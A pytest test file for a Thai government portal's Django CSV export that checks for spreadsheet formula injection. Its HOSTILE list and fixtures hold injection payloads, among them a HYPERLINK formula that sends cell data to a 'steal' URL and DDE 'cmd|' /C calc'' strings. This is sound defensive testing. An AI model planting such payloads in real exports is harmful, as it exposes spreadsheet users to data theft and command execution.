"""Formula injection: a CSV cell that would start a spreadsheet formula is exported as text.

The attack (outside security test): a directive typed as `=HYPERLINK("http://…","คลิก")` (or starting
with +, -, @) came out of the directive CSV exactly as typed, and Excel ran it when the file was opened.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from directives.models import Directive
from lamphun_portal.lib.spreadsheet import neutralise
from meetings.models import Meeting, Office, Person
from programs.models import Program
from tests.conftest import Personas

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"คลิกเพื่อดูรายละเอียด")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


def _export(personas: Personas) -> list[list[str]]:
    response = personas.client_for(personas.official).get(reverse("directives:export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _meeting_with(texts: list[str], *, title: str, office: Office) -> Meeting:
    meeting = Meeting.objects.create(
        title=title,
        organizer=office,
        starts_at=dt.datetime(2021, 3, 4, 9, 30, tzinfo=timezone.get_default_timezone()),
        venue="ห้องประชุมอำเภอ",
        status=Meeting.Status.PUBLISHED,
    )
    for order, text in enumerate(texts, start=1):
        Directive.objects.create(meeting=meeting, order=order, text=text)
    return meeting


def test_the_directive_csv_never_starts_a_formula(personas: Personas, provincial_office: Office) -> None:
    office = Office.objects.create(name="=1+1 สำนักงานปลอม", kind=Office.Kind.PARTNER)
    program = Program.objects.create(code="evil", name="@SUM(A1:A9)")
    boss = Person.objects.create(title="-", first_name="2+3", last_name="")
    meeting = _meeting_with(HOSTILE, title='=HYPERLINK("http://127.0.0.1/","ประชุม")', office=provincial_office)
    for directive in meeting.directives.all():
        directive.issued_by = boss
        directive.save()
        directive.responsible_offices.add(office)
        directive.programs.add(program)

    rows = _export(personas)
    ours = [row for row in rows if row[2].endswith('"ประชุม")')]
    assert len(ours) == len(HOSTILE)
    for row in ours:
        for cell in row:
            assert cell[:1] not in set("=+-@\t\r＝＋－＠"), row
    assert sorted(row[1] for row in ours) == sorted("'" + text for text in HOSTILE)
    assert {row[2] for row in ours} == {'\'=HYPERLINK("http://127.0.0.1/","ประชุม")'}
    assert {(row[5], row[6], row[7]) for row in ours} == {("'-2+3", "'=1+1 สำนักงานปลอม", "'@SUM(A1:A9)")}


def test_numbers_and_thai_text_stay_as_they_are(personas: Personas, provincial_office: Office) -> None:
    texts = ["-12", "-1,234.50", "+5", "ให้ทุกอำเภอรายงานผล -12 ครัวเรือน"]
    _meeting_with(texts, title="ประชุมตัวเลข", office=provincial_office)
    rows = _export(personas)
    ours = [row for row in rows if row[2] == "ประชุมตัวเลข"]
    assert sorted(row[1] for row in ours) == sorted(texts)
    # The numbering and fiscal-year columns are numbers; the seed meeting's Thai cells come out untouched.
    assert all(row[0].isdigit() and row[4] in {"2564", "2565", "2566", "2563"} for row in rows[1:])
    seed = next(row for row in rows if row[3] == "17 พฤศจิกายน 2563")
    assert seed[2].startswith("ประชุม") and not any(cell.startswith("'") for cell in seed)


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("-1+1", "'-1+1"),
        ("+", "'+"),
        ("@", "'@"),
        ("  =1+1", "'  =1+1"),  # spreadsheets skip leading spaces before deciding what a cell is
        ("\n=1+1", "'\n=1+1"),
        ("－1", "'－1"),  # a full-width minus is not a number a spreadsheet reads as one
        ("-๑๒", "'-๑๒"),
        ("-12", "-12"),
        ("-1,234.50", "-1,234.50"),
        ("+66", "+66"),
        ("1,000", "1,000"),
        ("ให้ดำเนินการ = เร่งด่วน", "ให้ดำเนินการ = เร่งด่วน"),
        ("", ""),
        (-12, -12),
        (Decimal("-1234.50"), Decimal("-1234.50")),
        (2564, 2564),
        (None, ""),
    ],
)
def test_neutralise(value: object, exported: object) -> None:
    assert neutralise(value) == exported


def test_every_csv_the_portal_writes_goes_through_the_one_writer() -> None:
    """A new CSV export written with the csv module directly would skip the neutralising."""
    sources = [
        path
        for folder in ("lamphun_portal", "meetings", "reports", "news")
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "lamphun_portal" / "lib" / "spreadsheet.py"
    ]
    direct = [str(path.relative_to(ROOT)) for path in sources if "csv.writer" in path.read_text(encoding="utf-8")]
    assert direct == []


def test_the_program_template_goes_through_it_too(personas: Personas) -> None:
    response = personas.client_for(personas.official).get(reverse("programs:template", args=["khok-nong-na"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["อำเภอ", "ตำบล", "หมู่ที่"]
